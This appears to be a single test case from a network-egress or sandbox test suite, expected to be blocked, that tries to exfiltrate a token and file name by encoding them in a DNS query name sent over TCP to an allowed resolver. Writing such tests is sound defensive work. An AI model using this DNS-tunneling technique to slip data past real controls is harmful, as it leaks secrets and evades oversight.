#!/usr/bin/python3
# id: d35_dns_tcp_tunnel
# title: data in a query name over TCP to the allowed resolver
# needs: user
# expect: block
# why: as d30, with a length prefix
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    ask_tcp(dnsq(f'{TOK}.tunnel.{FNAME}'))
attempt(f, dst=(ALLOW,), chan=('dns',))
